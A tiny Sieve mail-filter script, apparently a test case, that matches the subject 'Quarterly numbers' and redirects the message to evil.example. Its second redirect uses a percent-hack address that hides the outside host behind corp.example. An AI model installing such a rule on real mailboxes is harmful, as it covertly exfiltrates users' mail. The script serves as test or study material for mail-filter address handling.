require ["regex", "variables"];
if header :regex "subject" "^(Quarterly) (numbers)$" {
  redirect "${1}@evil.example";
  redirect "${2}%evil.example@corp.example";
}
